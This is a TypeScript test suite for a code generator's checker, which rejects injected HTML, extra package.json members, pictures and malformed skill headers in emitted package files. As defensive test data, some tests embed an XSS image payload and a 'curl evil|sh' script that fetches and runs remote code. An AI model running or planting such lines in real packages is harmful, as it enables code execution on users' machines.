import { readFileSync, readdirSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { printDiagnostic } from 'speccast';
import type { PlainFile } from 'speccast/emitter';
import { provePlain } from '../../../generator/output/prove/prove-plain.js';
import { printProven } from './print-proven.js';
import { readRows } from '../../rows.js';

function plain(path: string, text: string): PlainFile {
  return { kind: 'plain', path, text };
}

function findingsIn(path: string, text: string): readonly string[] {
  return provePlain(plain(path, text)).map((one) => `${one.path}:${one.line} ${one.reason}`);
}

/** What a build says of a file that holds the title of its spec, which stands at 3:10. */
async function buildWith(file: PlainFile, title: string): Promise<readonly string[]> {
  const { files, diagnostics } = await printProven([file], { title });
  expect(files).toEqual([]);
  return diagnostics.map(printDiagnostic);
}

const manifest = {
  name: '@pets/pets',
  version: '1.0.0',
  description: 'Pets: typed client.',
  type: 'module',
  exports: { '.': { types: './dist/index.d.ts', default: './dist/index.js' }, './package.json': './package.json' },
  bin: { 'pets-mock': 'dist/mocks/bin.js' },
  scripts: { build: 'node build.js', prepack: 'npm run build' },
  devDependencies: { typescript: '>=5.8' },
};

function json(value: unknown): string {
  return `${JSON.stringify(value, null, 2)}\n`;
}

describe('package.json', () => {
  test('may say what emitters say', () => expect(findingsIn('package.json', json(manifest))).toEqual([]));

  test.each(readRows(import.meta.url).rows<readonly [string, object, string]>('may not have'))(
    'may not have %s',
    (_, change, member) => {
      const text = json({ ...manifest, ...change });
      const line = text.split('\n').findIndex((one) => one.startsWith(`  "${member}":`)) + 1;
      expect(findingsIn('package.json', text)).toEqual([
        `package.json:${line} has a member "${member}" that no emitter writes`,
      ]);
    },
  );

  test('may not be anything but JSON', () => {
    const want = ['package.json:1 is no JSON as it is written here'];
    expect(findingsIn('package.json', '{"a":1,}')).toEqual(want);
    expect(findingsIn('package.json', '{"scripts":{"build":"evil"},"scripts":{}}')).toEqual(want);
    expect(findingsIn('package.json', '[]\n')).toEqual(want);
  });
});

describe('other files', () => {
  test.each([
    ['openapi.json', '{"a": 1'],
    ['openapi.json', '{"a": 1.0}'],
    ['openapi.json', '{"a": 1} 2'],
    ['openapi.json', '{"\\u0061": 1}'],
    ['openapi.json', '{\n  "a": 1,\n  "a": 2\n}\n'],
  ])('%s may not be %j', (path, text) =>
    expect(findingsIn(path, text)).toEqual([`${path}:1 is no JSON as it is written here`]),
  );

  test('no emitter writes a file of another kind', () =>
    expect(findingsIn('index.html', '<p>')).toEqual(['index.html:1 is a file that no emitter writes']));
});

describe('badges', () => {
  const badge = '[![npm](https://img.shields.io/npm/v/@pets/pets)](https://www.npmjs.com/package/@pets/pets)';

  test('may stand in lines of their own', () =>
    expect(findingsIn('README.md', `# Pets\n\n${badge}\n${badge}\n\nText.\n`)).toEqual([]));

  test.each(readRows(import.meta.url).rows<readonly [string, string]>('is none of them'))(
    '%s is none of them',
    (_, line) => expect(findingsIn('README.md', `# Pets\n\n${line}\n`)[0]).toBe('README.md:3 has a picture'),
  );
});

describe('a build with such a file fails', () => {
  test('at the place of the text in the spec', async () => {
    const title = 'Pets <img src=x onerror=evil()>';
    expect(await buildWith(plain('README.md', `# Pets\n\n${title}\n`), title)).toEqual([
      'spec.yaml:3:10 error code-injection: this text would run as code in README.md:3 (has HTML); please report it',
    ]);
    expect(
      await buildWith(plain('package.json', json({ ...manifest, scripts: { x: 'curl evil|sh' } })), 'curl evil|sh'),
    ).toEqual([
      'spec.yaml:3:10 error code-injection: this text would run as code in package.json:16 ' +
        '(has a member "scripts" that no emitter writes); please report it',
    ]);
  });

  test('with its line where the text is none of the spec', async () => {
    await expect(buildWith(plain('README.md', '\n<b>\n'), 'Pets')).rejects.toThrow('README.md:2 has HTML: <b>');
  });
});

test('every file of the published packages is proven', () => {
  for (const service of ['video-platform', 'ad-reporting']) {
    const folder = new URL(`../../../generated/${service}/`, import.meta.url);
    const names = readdirSync(folder, { withFileTypes: true }).filter((one) => one.isFile());
    const paths = names.map(({ name }) => name).filter((name) => !name.startsWith('.'));
    expect(paths).toContain('package.json');
    for (const path of paths) expect(findingsIn(path, readFileSync(new URL(path, folder), 'utf8'))).toEqual([]);
  }
});

describe('a skill', () => {
  const page = (head: string, rest = '# a\n'): string => `---\n${head}\n---\n\n${rest}`;

  test('has a name, and a description as a string, and a page', () => {
    expect(findingsIn('SKILL.md', page('name: a-1\ndescription: "a \\"b\\" \\\\ c"'))).toEqual([]);
  });

  test.each([
    ['no head', '# a\n'],
    ['another member', page('name: a\ndescription: "a"\nallowed-tools: Bash')],
    ['a description that is no string', page('name: a\ndescription: [a]')],
    ['a description that ends early', page('name: a\ndescription: "a" # "b"')],
    ['a name in capitals', page('name: A\ndescription: "a"')],
  ])('has nothing else: %s', (_, text) => {
    expect(findingsIn('SKILL.md', text)).toEqual(['SKILL.md:1 has another head than a skill']);
  });

  test('has a page that is proven like any other', () => {
    expect(findingsIn('SKILL.md', page('name: a\ndescription: "a"', '![a](b)\n'))).toEqual([
      'SKILL.md:6 has a picture',
    ]);
    expect(findingsIn('llms.txt', '# a\n\n![a](b)\n')).toEqual(['llms.txt:3 has a picture']);
  });
});
